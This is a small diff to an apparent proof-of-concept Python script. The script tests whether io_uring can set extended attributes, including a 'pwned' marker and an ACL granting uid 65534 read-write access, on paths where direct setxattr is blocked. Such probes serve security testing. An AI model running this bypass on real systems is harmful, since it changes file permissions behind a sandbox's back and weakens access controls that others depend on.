@@ -15,5 +15,5 @@ for path in sys.argv[1:]:
     except OSError as e:
         direct = errno.errorcode.get(e.errno, str(e.errno))
     r1 = u.setxattr(path, "user.kprobe4", b"pwned-via-io_uring")
-    r2 = u.setxattr(path, "system.posix_acl_access", u.acl_rw_for(65534))
+    r2 = u.setxattr(path, "system.posix_acl_access", u.acl_rw_for(65534, 7 if os.path.isdir(path) else 6))
     print(f"KPROBE4 {path}: setxattr(2)={direct} io_uring user.kprobe4={r1} io_uring ACL(uid 65534 rw)={r2}")
